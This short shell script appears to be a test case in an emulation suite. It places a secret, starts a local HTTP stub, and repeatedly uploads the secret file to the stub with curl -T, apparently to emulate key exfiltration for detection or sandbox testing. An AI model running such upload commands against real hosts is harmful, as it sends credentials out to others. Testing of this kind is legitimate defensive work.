#!/bin/sh
# Sends a key to an HTTP stub with curl.
# Needs: curl
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

put_secret
serve_http
inside sh -c "for try in 1 2 3 4 5 6; do curl -sS -T $secret ${url}in/; sleep 0.5; done" </dev/null >/dev/null
